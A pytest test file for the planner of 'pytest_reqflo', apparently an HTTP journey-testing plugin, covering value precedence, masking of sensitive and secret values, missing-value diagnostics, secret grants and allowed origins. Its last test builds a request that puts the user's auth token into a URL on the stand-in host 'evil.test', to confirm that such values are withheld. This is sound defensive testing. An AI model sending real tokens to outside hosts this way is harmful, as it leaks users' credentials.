from __future__ import annotations

from dataclasses import replace

import pytest

from pytest_reqflo.artifact.model import (
    Artifact,
    InputDeclaration,
    RequestSpec,
    StepSpec,
    VariableDeclaration,
)
from pytest_reqflo.errors import RunCheckError
from pytest_reqflo.lang.expression import CallExpression, LiteralValue, PathExpression, TextValue
from pytest_reqflo.lang.template import parse_value
from pytest_reqflo.plan.grants import Grant, Grants
from pytest_reqflo.plan.model import (
    EnvironmentSnapshot,
    GivenValue,
    ResolvedValue,
    RunRequest,
    Service,
)
from pytest_reqflo.plan.planner import make_plan
from pytest_reqflo.result import RunIdentity, ValueOrigin
from pytest_reqflo.values import Digest

LOCAL = EnvironmentSnapshot(
    name="local",
    values={"currency": "EUR", "copies": "many"},
    services={"shop": Service(base_url="http://shop.test/v1", values={"warehouse": "north"})},
    me={"auth_token": "t-1"},
)


def value_of(data):
    return parse_value(data)[0]


def given(name, layer, data, detail=""):
    return GivenValue(name=name, layer=layer, value=value_of(data), detail=detail)


def plan(*, given=(), environment=LOCAL, case="", row_number=None, **parts):
    artifact = Artifact(journey_id="j", steps=parts.pop("steps", ()), **parts)
    identity = RunIdentity(run_id="r", journey_id="j", journey_name="J", artifact="artifact_1")
    request = RunRequest(
        artifact=Digest("d"), identity=identity, environment=environment.name,
        given=tuple(given), case=case, row_number=row_number,
    )  # fmt: skip
    return make_plan(artifact, request, environment)


def problems(**parts):
    with pytest.raises(RunCheckError) as caught:
        plan(**parts)
    return [(item.code, item.title) for item in caught.value.diagnostics]


def variable(name, source, key=None, **more):
    return VariableDeclaration(name=name, source=source, key=key or name, **more)


def get(url="/"):
    return StepSpec(id="s", name="s", request=RequestSpec(method="GET", url=value_of(url)))


# --- one test per row of the table: what is left when all above is taken away --------------------

COUNT = InputDeclaration(name="count", has_default=True, default=6)
LAYERS = [
    given("count", "row", 1, "row 1 (orders.csv:2:1)"),
    given("count", "set", 2, "--set"),
    given("count", "case", 3, "case `Happy path`"),
    given("count", "preset", 4, "preset `gold`"),
]


@pytest.mark.parametrize("first", range(4))
def test_given_layers_win_in_their_order(first):
    resolved = plan(inputs=(COUNT,), given=reversed(LAYERS[first:])).names["count"]
    best = LAYERS[first]
    assert resolved == ResolvedValue(
        name="count",
        value=best.value,
        origin=ValueOrigin(
            name="count",
            kind_of_name="input",
            layer=best.layer,
            value=first + 1,
            detail=best.detail,
        ),
    )


def test_a_preset_beats_the_declared_source():
    token = variable("token", "me", "auth_token")
    resolved = plan(variables=(token,), given=[given("token", "preset", "p")]).names["token"]
    assert resolved.value == LiteralValue("p")


def test_the_declared_source_beats_the_default():
    currency = variable("currency", "environment", has_default=True, default="USD")
    origin = plan(variables=(currency,)).names["currency"].origin
    assert (origin.layer, origin.value, origin.detail) == ("source", "EUR", "environment `local`")


def test_the_default_beats_the_environment_value_of_the_same_name():
    currency = InputDeclaration(name="currency", has_default=True, default="USD")
    origin = plan(inputs=(currency,)).names["currency"].origin
    assert (origin.layer, origin.value, origin.detail) == ("default", "USD", "default of the input")


def test_the_environment_value_of_the_same_name_is_the_last_resort():
    origin = plan(inputs=(InputDeclaration(name="currency"),)).names["currency"].origin
    assert (origin.layer, origin.value) == ("environment", "EUR")
    assert origin.detail == "value of the same name in environment `local`"


def test_an_optional_value_may_stay_unset():
    resolved = plan(inputs=(InputDeclaration(name="note", required=False),)).names["note"]
    assert (resolved.is_set, resolved.value) == (False, LiteralValue(None))


# --- sources -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value", "detail"),
    [
        ("currency", "EUR", "environment `local`"),
        ("warehouse", "north", "service `shop` of environment `local`"),
        ("base_url", "http://shop.test/v1", "service `shop` of environment `local`"),
    ],
)
def test_source_environment_reads_values_then_the_entries_of_the_service(key, value, detail):
    resolved = plan(variables=(variable("x", "environment", key),), services=("",)).names["x"]
    assert (resolved.value, resolved.origin.detail) == (LiteralValue(value), detail)


def test_source_me_is_sensitive_and_masked_in_its_origin():
    resolved = plan(variables=(variable("token", "me", "auth-token"),)).names["token"]
    assert resolved.value == LiteralValue("t-1")
    assert resolved.origin == ValueOrigin(
        name="token", kind_of_name="variable", layer="source", value="[sensitive:token]",
        detail="me value `auth-token`", sensitive=True,
    )  # fmt: skip


def test_source_secret_stays_a_reference():
    made = plan(variables=(variable("api_key", "secret", "PAY_KEY"),))
    assert made.names["api_key"].value == PathExpression("secrets", ("PAY_KEY",))
    assert made.names["api_key"].origin.value == "[secret:PAY_KEY]"
    assert made.secret_names == ("PAY_KEY",)


def test_a_secret_variable_that_got_another_value_asks_for_no_secret():
    made = plan(
        variables=(variable("api_key", "secret", "PAY_KEY"),),
        secrets=("PAY_KEY",),
        given=[given("api_key", "case", "{{ secrets.OTHER }}")],
    )
    assert made.secret_names == ("OTHER",)


def test_a_secret_that_a_step_reads_itself_is_still_asked_for():
    made = plan(
        steps=(get("/{{ secrets.PAY_KEY }}"),),
        variables=(variable("api_key", "secret", "PAY_KEY"),),
        secrets=("PAY_KEY",),
        given=[given("api_key", "case", "test-key")],
    )
    assert made.secret_names == ("PAY_KEY",)


def test_secrets_in_headers_of_the_services_in_use_are_asked_for():
    services = {
        "a": Service(base_url="http://a.test", headers={"x-key": value_of("{{ secrets.A }}")}),
        "b": Service(base_url="http://b.test", headers={"x-key": value_of("{{ secrets.B }}")}),
    }
    made = plan(environment=EnvironmentSnapshot(name="e", services=services), services=("b",))
    assert made.secret_names == ("B",)


def test_a_value_variable_keeps_its_expression_and_shows_it():
    path = "/orders/{{ steps.create.outputs.id }}"
    made = plan(variables=(variable("path", "value", value=value_of(path)),))
    assert made.names["path"].origin.value == path
    assert isinstance(made.names["path"].value, TextValue)


def test_null_fits_every_type():
    made = plan(
        inputs=(InputDeclaration(name="n", type="integer", has_default=True, default=None),)
    )
    assert made.names["n"].value == LiteralValue(None)


def test_case_values_may_read_entries_of_the_service():
    made = plan(
        inputs=(InputDeclaration(name="a"),), services=("",),
        given=[given("a", "case", "{{ env.warehouse }}")],
    )  # fmt: skip
    assert made.names["a"].value == LiteralValue("north")


def test_env_and_me_in_case_values_are_resolved_and_functions_are_left():
    made = plan(
        inputs=(InputDeclaration(name="a"), InputDeclaration(name="b"), InputDeclaration(name="c")),
        given=[
            given("a", "case", "in {{ env.currency }}"),
            given("b", "case", "Bearer {{ me.auth_token }}"),
            given("c", "case", "{{ uuid() }}"),
        ],
    )
    assert made.names["a"].value == LiteralValue("in EUR")
    assert made.names["b"].origin.value == "[sensitive:b]"
    assert made.names["c"].value == CallExpression("uuid")


def test_what_is_made_from_a_sensitive_value_is_sensitive():
    made = plan(
        inputs=(InputDeclaration(name="card", sensitive=True, has_default=True, default="4111"),),
        variables=(
            variable("first", "value", value=value_of("x{{ variables.second }}")),
            variable("second", "value", value=value_of("{{ inputs.card | upper }}")),
            variable("third", "value", value=value_of("plain")),
        ),
    )
    assert [name for name, found in made.names.items() if found.sensitive] == [
        "card", "first", "second"
    ]  # fmt: skip
    assert made.names["card"].origin.value == "[sensitive:card]"


def test_me_values_are_known_under_the_name_that_a_journey_uses():
    assert plan(me_values=("Auth-Token",)).environment.me["Auth-Token"] == "t-1"


# --- problems ------------------------------------------------------------------------------------


def test_all_missing_names_appear_at_once_with_where_was_looked():
    with pytest.raises(RunCheckError) as caught:
        plan(
            inputs=(InputDeclaration(name="subject"),),
            variables=(variable("token", "me", "api-token"), variable("tier", "preset")),
            case="Happy path",
            row_number=2,
        )
    assert [item.code for item in caught.value.diagnostics] == ["RF301"] * 3
    assert [(item.title, *item.notes) for item in caught.value.diagnostics] == [
        (
            "required input `subject` has no value",
            "looked in: data row, --set, case, presets of the case, default of the input, "
            "environment `local`",
        ),
        (
            "required variable `token` has no value",
            "looked in: data row, --set, case, presets of the case, REQFLO_ME_API_TOKEN, "
            ".reqflo/me.yaml, me.yaml of the user's configuration folder, default of the variable, "
            "environment `local`",
        ),
        (
            "required variable `tier` has no value",
            "looked in: data row, --set, case, presets of the case, default of the variable, "
            "environment `local`",
        ),
    ]


def test_missing_values_and_a_lacking_environment_appear_together():
    assert problems(
        inputs=(InputDeclaration(name="subject"), InputDeclaration(name="copies", type="integer")),
        services=("billing",),
        environment_values=("region",),
        steps=(get("/{{ env.region }}"),),
    ) == [
        ("RF303", "environment `local` has no service `billing`"),
        ("RF303", "environment `local` has no value `region`"),
        ("RF301", "required input `subject` has no value"),
        ("RF304", "input `copies` must be a whole number, not text"),
    ]


def test_an_environment_value_with_a_default_may_be_absent():
    steps = (get("/{{ env.region | default('eu') }}"),)
    assert plan(steps=steps, environment_values=("region",)).secret_names == ()


def test_an_unset_process_variable_is_named():
    with pytest.raises(RunCheckError) as caught:
        plan(
            steps=(get("/{{ env.region }}"),),
            environment_values=("region",),
            environment=EnvironmentSnapshot(name="e", unset_variables={"region": "SHOP_REGION"}),
        )
    assert caught.value.diagnostics[0].notes == ("process variable `SHOP_REGION` is not set",)


@pytest.mark.parametrize(
    ("services", "wanted", "title"),
    [
        ({}, "", "environment `e` has no services"),
        ({"a": "http://a", "b": "http://b"}, "", "environment `e` has 2 services and none of them is `default`"),
        ({"a": ""}, "", "service `a` of environment `e` has no base_url"),
        ({"a": "a.test:80"}, "a", "the base_url of service `a` of environment `e` is no absolute URL"),
    ],
)  # fmt: skip
def test_a_service_that_cannot_be_reached(services, wanted, title):
    known = {name: Service(base_url=url) for name, url in services.items()}
    environment = EnvironmentSnapshot(name="e", services=known)
    assert problems(environment=environment, services=(wanted,)) == [("RF303", title)]


def test_without_an_environment_file_the_hint_says_what_to_write():
    with pytest.raises(RunCheckError) as caught:
        plan(environment=EnvironmentSnapshot(name="default", is_implicit=True), services=("",))
    assert caught.value.diagnostics[0].hint == (
        "write environments/local.yaml with services: {default: {base_url: ...}}"
    )


def test_a_value_that_does_not_fit_names_its_origin_and_not_itself():
    with pytest.raises(RunCheckError) as caught:
        plan(
            inputs=(InputDeclaration(name="copies", type="integer"),),
            given=[given("copies", "case", "{{ env.copies }}", "case `Happy path`")],
        )
    found = caught.value.diagnostics[0]
    assert (found.code, found.title) == ("RF304", "input `copies` must be a whole number, not text")
    assert found.notes == ("it comes from case `Happy path` ({{ env.copies }})",)


# --- origins -------------------------------------------------------------------------------------


def test_origins_of_the_journey_count_only_without_an_environment_file():
    origins = ("https://literal.test",)
    environment = EnvironmentSnapshot(
        name="e",
        services={"a": Service(base_url="http://A.test:80/v1"), "b": Service(base_url="")},
        allowed_origins=("https://cdn.test/", "nonsense"),
    )
    assert plan(environment=environment, origins=origins).allowed_origins == (
        "http://a.test",
        "https://cdn.test",
    )
    implicit = EnvironmentSnapshot(name="default", is_implicit=True)
    assert plan(environment=implicit, origins=origins).allowed_origins == origins


GUARDED = replace(
    LOCAL,
    grants=Grants(file="environments/local.yaml", grants=(Grant(secrets="A*", journeys=("j",)),)),
)


def test_all_secrets_that_are_not_granted_are_told_with_what_else_is_missing():
    found = problems(
        environment=GUARDED,
        inputs=(InputDeclaration(name="subject"),),
        variables=(variable("key", "secret", "ZULU"),),
        secrets=("ALPHA", "BRAVO"),
    )
    assert found == [
        ("RF301", "required input `subject` has no value"),
        ("RF306", "the secrets `BRAVO` and `ZULU` are not granted to this journey"),
    ]


def test_a_secret_that_the_run_does_not_read_needs_no_grant():
    made = plan(
        environment=GUARDED,
        variables=(variable("key", "secret", "ZULU"),),
        given=(given("key", "case", "stand-in"),),
        secrets=("ALPHA",),
    )
    assert made.secret_names == ("ALPHA",)


def test_a_journey_that_names_its_own_servers_gets_no_me_values_without_an_environment_file():
    implicit = EnvironmentSnapshot(name="default", is_implicit=True, me={"auth_token": "t-1"})
    variables = (variable("token", "me", key="auth_token"),)

    assert plan(environment=implicit, variables=variables).environment.me == {"auth_token": "t-1"}
    assert problems(environment=implicit, variables=variables, origins=("https://evil.test",)) == [
        ("RF301", "required variable `token` has no value")
    ]
    assert problems(
        environment=implicit,
        steps=(get("https://evil.test/{{ me.auth_token }}"),),
        me_values=("auth_token",),
        origins=("https://evil.test",),
    ) == [("RF301", "required me value `auth_token` is not set")]
